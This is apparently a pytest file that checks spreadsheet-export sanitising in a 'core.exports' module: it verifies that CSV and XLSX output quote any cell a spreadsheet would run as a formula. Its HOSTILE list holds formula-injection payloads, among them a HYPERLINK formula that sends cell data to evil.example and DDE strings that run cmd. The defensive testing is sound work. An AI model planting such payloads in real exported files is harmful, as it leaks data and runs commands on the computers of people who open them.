"""core.exports: spreadsheet cells that a spreadsheet would run as formulas stay text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import csv_response, safe_cell, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_prefixes_formula_like_text_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["광주 도시철도", "a=b", "1-2", "", "'already quoted", "메일@"])
def test_it_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 2.5, None])
def test_it_leaves_numbers_and_empty_cells_alone(value):
    assert safe_cell(value) == value


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_csv_response_neutralises_every_cell_including_the_header():
    response = csv_response(
        ["=head", "ok"], iter([[HOSTILE[0], -3], ["fine", "@x"]]), filename="x.csv"
    )

    rows = _csv_rows(response)

    assert rows == [["'=head", "ok"], ["'" + HOSTILE[0], "-3"], ["fine", "'@x"]]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_xlsx_response_writes_formula_like_text_as_quoted_text():
    response = xlsx_response(["Title", "n"], [[value, -1] for value in HOSTILE], filename="x.xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))

    # What a person reads is unchanged (XML itself turns a lone CR into LF).
    assert [row[0].value for row in cells] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in cells)
    assert [row[1].value for row in cells] == [-1] * len(HOSTILE)  # numbers stay numbers
    assert not any(row[1].quotePrefix for row in cells)
